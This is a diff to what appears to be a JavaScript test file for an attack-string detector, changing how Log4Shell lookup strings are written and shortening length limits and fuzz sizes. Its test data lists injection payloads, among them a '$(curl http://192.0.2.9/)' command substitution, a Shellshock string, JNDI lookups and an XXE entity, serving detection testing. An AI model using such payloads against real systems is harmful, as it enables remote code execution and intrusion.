@@ -26,8 +26,8 @@ describe("an attack", () => {
     "$(curl http://192.0.2.9/)",
     "() { :;}; echo",
     "{{7*7}}",
-    "$" + "{jndi:ldap://192.0.2.9/a}",
-    "$" + "{$" + "{lower:j}ndi:x}",
+    "\u0024{jndi:ldap://192.0.2.9/a}",
+    "\u0024{\u0024{lower:j}ndi:x}",
     "<?php echo 1;",
     "php://filter/read=x",
     '<!ENTITY x SYSTEM "file">',
@@ -72,8 +72,8 @@ describe("ordinary text", () => {
 });
 
 test("only the beginning of a text is read", () => {
-  expect(hasIdiom(`${"a ".repeat(2_000)}<script>`)).toBe(true);
-  expect(hasIdiom(`${"a ".repeat(3_000)}<script>`)).toBe(false);
+  expect(hasIdiom(`${"a ".repeat(1_000)}<script>`)).toBe(true);
+  expect(hasIdiom(`${"a ".repeat(1_100)}<script>`)).toBe(false);
 });
 
 test("any text ends, with pieces of idioms as well", () => {
@@ -86,7 +86,7 @@ test("any text ends, with pieces of idioms as well", () => {
     "%2",
     "5c",
     "<svg ",
-    "$" + "{",
+    "\u0024{",
     "1=",
     "/**/",
     " ",
@@ -98,7 +98,7 @@ test("any text ends, with pieces of idioms as well", () => {
     fc.property(
       fc.oneof(
         fc.string({ unit: "binary" }),
-        fc.array(piece, { maxLength: 400 }).map((all) => all.join("")),
+        fc.array(piece, { maxLength: 60 }).map((all) => all.join("")),
       ),
       (text) => {
         expect(typeof hasIdiom(text)).toBe("boolean");
@@ -113,7 +113,7 @@ test("any text ends, with pieces of idioms as well", () => {
     "%25",
     "../",
     "((((",
-    "$" + "{$" + "{",
+    "\u0024{\u0024{",
     "a",
     "1 = 1",
     "\\x5c",
